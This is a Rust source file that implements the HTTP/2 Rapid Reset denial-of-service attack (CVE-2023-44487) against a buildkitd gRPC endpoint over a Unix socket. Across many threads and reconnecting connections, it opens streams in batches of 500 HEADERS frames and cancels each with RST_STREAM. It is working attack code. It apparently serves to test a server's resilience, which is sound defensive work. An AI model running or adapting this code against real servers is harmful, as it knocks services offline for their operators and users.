//! Clients that open calls and take them back at once, as fast as they are let (CVE-2023-44487).

use std::{
    io::{Read as _, Write as _},
    os::unix::net::UnixStream,
    path::{Path, PathBuf},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// A SETTINGS frame without settings.
const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const END_HEADERS: u8 = 4;
/// CANCEL.
const REASON: [u8; 4] = [0, 0, 0, 8];

/// Calls that go out in one write.
const BATCH: u32 = 500;

/// Stream ids of a connection end at 2^31.
const LAST_CALL: u32 = 1 << 29;

/// A server that takes nothing for so long is left for a new connection.
const STUCK: Duration = Duration::from_secs(5);

/// The attack, until it is dropped.
pub struct RapidReset {
    end: Arc<AtomicBool>,
    calls: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl RapidReset {
    /// So many connections at a time, each made again when it is closed. Every other one takes its calls back
    /// only when it has opened a batch of them: they are on their way by then.
    pub fn start(socket: &Path, connections: usize) -> Self {
        let end = Arc::<AtomicBool>::default();
        let calls = Arc::<AtomicU64>::default();
        let threads = (0..connections).map(|connection| {
            let late = connection % 2 == 1;
            let (socket, end, calls) = (socket.to_owned(), Arc::clone(&end), Arc::clone(&calls));
            thread::spawn(move || {
                while !end.load(Ordering::Relaxed) {
                    // What breaks off is made again.
                    let _ = attack(&socket, late, &end, &calls);
                }
            })
        });
        let threads = threads.collect();
        Self {
            end,
            calls,
            threads,
        }
    }

    /// How many calls have been opened and taken back.
    pub fn calls(&self) -> u64 {
        self.calls.load(Ordering::Relaxed)
    }
}

impl Drop for RapidReset {
    fn drop(&mut self) {
        self.end.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

fn attack(
    socket: &PathBuf,
    late: bool,
    end: &AtomicBool,
    calls: &AtomicU64,
) -> std::io::Result<()> {
    let mut stream = UnixStream::connect(socket)?;
    stream.set_write_timeout(Some(STUCK))?;
    let mut answers = stream.try_clone()?;
    let reader = thread::spawn(move || {
        let mut buffer = vec![0; 64 << 10];
        while answers.read(&mut buffer).is_ok_and(|length| length > 0) {}
    });
    let mut write = || {
        stream.write_all(PREFACE)?;
        stream.write_all(&SETTINGS)?;
        let head = head();
        for batch in 0..LAST_CALL / BATCH {
            if end.load(Ordering::Relaxed) {
                break;
            }
            let (mut opened, mut reset) = (Vec::new(), Vec::new());
            for call in 0..BATCH {
                let id = 2 * (batch * BATCH + call) + 1;
                frame(&mut opened, HEADERS, END_HEADERS, id, &head);
                let bytes = if late { &mut reset } else { &mut opened };
                frame(bytes, RESET, 0, id, &REASON);
            }
            stream.write_all(&opened)?;
            stream.write_all(&reset)?;
            calls.fetch_add(BATCH.into(), Ordering::Relaxed);
        }
        Ok(())
    };
    let written = write();
    let _ = stream.shutdown(std::net::Shutdown::Both);
    let _ = reader.join();
    written
}

/// A call that buildkitd takes, in HPACK without its table.
fn head() -> Vec<u8> {
    // POST and http are entries of the static table; 4, 1, 15 + 16 and 0 are names or new ones.
    let mut head = b"\x83\x86".to_vec();
    let mut literal = |name: &[u8], value: &[u8]| {
        head.extend(name);
        head.push(value.len().try_into().expect("short values"));
        head.extend(value);
    };
    literal(b"\x04", b"/moby.buildkit.v1.Control/ListWorkers");
    literal(b"\x01", b"localhost");
    literal(b"\x0f\x10", b"application/grpc");
    literal(b"\x00\x02te", b"trailers");
    head
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("short frames");
    bytes.extend(&length.to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}
